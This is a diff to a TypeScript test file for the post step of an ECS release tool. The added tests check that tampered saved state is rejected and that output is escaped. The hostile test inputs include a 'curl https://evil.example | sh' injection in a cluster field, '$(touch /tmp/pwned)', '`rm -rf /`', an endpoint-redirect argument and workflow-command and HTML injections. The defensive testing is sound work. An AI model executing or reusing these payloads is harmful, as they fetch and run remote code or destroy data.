@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { type PostRuntime, post } from '../../src/post/post';
 import type { Progress } from '../../src/post/progress';
 import { CLUSTER, scenario } from '../rollout/scenario';
+import { consoleOrServer, markdownProblems } from '../support/markdown-check';
 
 function postRuntime(s: ReturnType<typeof scenario>, saved: string) {
   const summaries: string[] = [];
@@ -91,5 +92,56 @@ describe('post step', () => {
     expect(s.log.lines.filter((l) => l.level === 'warning').map((l) => l.message)).toEqual([
       `ecs-release post: services are not on one release yet: demo-api: ${arn(s, 'demo-api', 1)} (the previous release); demo-web: ${arn(s, 'demo-web', 1)} (release c0ffee)`,
     ]);
+  });
+
+  it('saved state is untrusted: a field that is not what the main step writes means a warning, no AWS call, no command', async () => {
+    const s0 = scenario();
+    const valid = stoppedIn(s0, 'rollout', 2);
+    const hostile: [string, string][] = [
+      ['not json {', 'it is not JSON'],
+      ['[]', 'it is not an object'],
+      [
+        JSON.stringify({ ...valid, region: 'eu-west-1 --endpoint-url https://evil.example' }),
+        'field "region"',
+      ],
+      [JSON.stringify({ ...valid, cluster: 'demo; curl https://evil.example | sh' }), 'field "cluster"'],
+      [JSON.stringify({ ...valid, release: '<img src=x>' }), 'field "release"'],
+      [
+        JSON.stringify({ ...valid, services: [{ service: "$(touch /tmp/pwned)'", state: 'pending' }] }),
+        'field "services[0].service"',
+      ],
+      [
+        JSON.stringify({
+          ...valid,
+          services: [{ service: 'api', current: '##[stop-commands]x', state: 'x' }],
+        }),
+        'field "services[0].current"',
+      ],
+      [JSON.stringify({ ...valid, services: 'api' }), 'field "services"'],
+    ];
+    for (const [saved, problem] of hostile) {
+      const s = scenario();
+      const { rt, summaries } = postRuntime(s, saved);
+      await post(rt);
+      const warnings = s.log.lines.filter((l) => l.level === 'warning').map((l) => l.message);
+      expect(warnings, saved).toEqual([
+        `ecs-release post: the saved progress is not what the main step writes (${problem}${problem.startsWith('field') ? ' is not valid' : ''}); nothing checked`,
+      ]);
+      expect(summaries).toEqual([]);
+      expect(s.lab.recorder.calls('ecs', 'DescribeServices')).toHaveLength(0);
+    }
+  });
+
+  it('builds "confirm with" from the checked names only, each a shell word, and escapes what it writes', async () => {
+    const s = scenario();
+    const progress = { ...stoppedIn(s, 'rollout', 2), extra: '<img src=x> `rm -rf /`' };
+    const { rt, summaries } = postRuntime(s, JSON.stringify(progress));
+    await post(rt);
+    const summary = summaries[0] ?? '';
+    expect(summary).not.toContain('extra');
+    expect(summary).toContain(
+      `aws ecs describe-services --region ${s.lab.region} --cluster ${CLUSTER} --services demo-api demo-web --query`,
+    );
+    expect(markdownProblems(summary, consoleOrServer('https://github.com'))).toEqual([]);
   });
 });
